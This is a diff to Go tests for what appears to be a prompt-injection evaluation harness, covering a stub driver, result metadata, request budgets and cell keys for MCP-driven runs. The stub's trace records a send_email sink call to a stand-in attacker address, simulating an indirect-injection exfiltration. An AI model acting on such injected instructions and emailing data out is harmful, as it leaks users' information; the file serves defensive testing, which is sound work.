@@ -36,6 +36,7 @@ func (s *sinkDriver) Drive(_ context.Context, d Drive) (agent.Trace, error) {
 		tr.SinkCalls = []agent.SinkCall{{Step: 1, Tool: "send_email", Arguments: map[string]any{"to": "attacker@evil.example"}}}
 	}
 	tr.FinalText = "done"
+	tr.Meta = map[string]any{"api": "openai_chat", "mode": "overwritten?"}
 	return tr, nil
 }
 
@@ -79,6 +80,9 @@ sinks = ["send_*"]
 		t.Fatalf("%d results, %d drives; want 8", len(res), len(d.seen))
 	}
 	for _, r := range res {
+		if r.Metadata["api"] != "openai_chat" {
+			t.Errorf("the driver's trace metadata is not on the result: %v", r.Metadata)
+		}
 		if r.Agent != "proxy" || r.Metadata["mode"] != "indirect" {
 			t.Errorf("agent %q mode %v, want proxy, indirect", r.Agent, r.Metadata["mode"])
 		}
@@ -126,5 +130,22 @@ repeats = 10`)
 	err = Runner{Concurrency: 1, Driver: &sinkDriver{}, MaxRequests: 5, Open: opener(funcTarget(nil))}.Run(context.Background(), cells, func(Result) error { n++; return nil })
 	if err == nil || n >= 10 {
 		t.Fatalf("budget of 5 requests at 2 a cell: %d cells ran, err %v", n, err)
+	}
+}
+
+func TestViaChangesKeys(t *testing.T) {
+	cfg := mustParse(t, `agents = ["email"]
+attacks = ["naive"]`)
+	plain, err := Plan(cfg)
+	if err != nil {
+		t.Fatal(err)
+	}
+	cfg.Via = "mcp"
+	via, err := Plan(cfg)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if len(plain) != len(via) || plain[0].Key == via[0].Key {
+		t.Fatalf("keys %s and %s: a driven run's cells must not share keys with pikit's own", plain[0].Key, via[0].Key)
 	}
 }
